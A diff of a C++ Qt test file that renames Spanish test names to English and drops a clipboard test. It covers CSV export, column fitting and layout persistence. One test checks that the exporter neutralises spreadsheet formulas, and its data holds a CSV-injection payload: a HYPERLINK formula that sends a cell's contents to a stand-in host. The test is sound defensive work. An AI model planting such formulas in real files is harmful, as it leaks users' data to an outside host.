@@ -9,10 +9,8 @@
 #include "controles/listview.h"
 #include "runtime/settings.h"
 
-#include <QClipboard>
 #include <QFile>
 #include <QFileDialog>
-#include <QGuiApplication>
 #include <QHeaderView>
 #include <QMenu>
 #include <QTemporaryDir>
@@ -38,7 +36,7 @@ void llenaOportunidades(Controles::ListView &lista)
     lista.setSorted(true);
 }
 
-TEST(AccionesLista, elCsvSigueElOrdenMostradoYEntrecomillaLoQueHaceFalta)
+TEST(AccionesLista, theCsvFollowsTheShownOrderAndQuotesWhatNeedsIt)
 {
     Controles::ListView lista;
     llenaOportunidades(lista);
@@ -54,7 +52,7 @@ TEST(AccionesLista, elCsvSigueElOrdenMostradoYEntrecomillaLoQueHaceFalta)
 }
 
 // Cells a spreadsheet would run as formulas go out as text; numbers stay numbers.
-TEST(AccionesLista, elCsvNoLlevaFormulas)
+TEST(AccionesLista, theCsvCarriesNoFormulas)
 {
     const std::vector<std::pair<QString, QString>> casos = {
         {QStringLiteral("=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")"),
@@ -80,7 +78,7 @@ TEST(AccionesLista, elCsvNoLlevaFormulas)
     }
 }
 
-TEST(AccionesLista, lasColumnasSalenComoEnPantallaMovidasYSinLasOcultas)
+TEST(AccionesLista, columnsGoOutAsShownMovedAndWithoutHiddenOnes)
 {
     Controles::ListView lista;
     llenaOportunidades(lista);
@@ -90,10 +88,10 @@ TEST(AccionesLista, lasColumnasSalenComoEnPantallaMovidasYSinLasOcultas)
     EXPECT_EQ(textoCsv(lista), QStringLiteral("Monto;Folio\r\n30.00;F-2\r\n20.00;F-3\r\n10.00;F-1\r\n"));
 }
 
-class MenuListaTest : public ::testing::Test
+class MenuLista : public ::testing::Test
 {
 protected:
-    MenuListaTest()
+    MenuLista()
     {
         lista.setObjectName(QStringLiteral("lvOrdenes"));
         llenaOportunidades(lista);
@@ -118,7 +116,7 @@ protected:
     Controles::ListView lista;
 };
 
-TEST_F(MenuListaTest, exportarACsvGuardaElArchivoElegidoEnUtf8ConBom)
+TEST_F(MenuLista, exportingToCsvSavesTheChosenFileInUtf8WithBom)
 {
     QTemporaryDir carpeta;
     const QString ruta = carpeta.filePath(QStringLiteral("oportunidades.csv"));
@@ -137,17 +135,7 @@ TEST_F(MenuListaTest, exportarACsvGuardaElArchivoElegidoEnUtf8ConBom)
     EXPECT_EQ(archivo.readAll(), QByteArray("\xEF\xBB\xBF") + textoCsv(lista).toUtf8());
 }
 
-TEST_F(MenuListaTest, copiarTodasLasFilasLasPoneEnElPortapapeles)
-{
-    QGuiApplication::clipboard()->clear();
-    eligeDelMenu(QStringLiteral("accCopiarFilas"));
-
-    funciones.AccionLista(lista);
-
-    EXPECT_EQ(QGuiApplication::clipboard()->text(), textoTabulado(lista));
-}
-
-TEST(AjusteLista, ajustaALasPrimerasFilasSinMedirLaListaEntera)
+TEST(AjusteLista, fitsToTheFirstRowsWithoutMeasuringTheWholeList)
 {
     // Given a long list whose widest text lies beyond the measured rows
     Controles::ListView lista;
@@ -181,7 +169,7 @@ TEST(AjusteLista, ajustaALasPrimerasFilasSinMedirLaListaEntera)
 
 // In a window too narrow for every column at its content's width, the text columns give up
 // width, never below a few characters; the folio, the figures and the dates keep theirs.
-TEST(AjusteLista, ajustaLasColumnasAlAnchoDeLaListaEncogiendoLasDeTexto)
+TEST(AjusteLista, fitsTheColumnsToTheListsWidthShrinkingTextOnes)
 {
     Controles::ListView lista;
     lista.resize(520, 200);
@@ -210,7 +198,7 @@ TEST(AjusteLista, ajustaLasColumnasAlAnchoDeLaListaEncogiendoLasDeTexto)
 
 // A reload keeps the columns as the user left them; another view brings its own layout, or
 // fits the columns when it has none; coming back brings the first one's again.
-TEST_F(MenuListaTest, cadaVistaConservaLaDisposicionDelUsuarioAlRecargar)
+TEST_F(MenuLista, eachViewKeepsTheUsersLayoutOnReload)
 {
     const QString consulta = QStringLiteral("SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\","
                                             " Op_Monto AS \"Monto\" FROM Oportunidad");
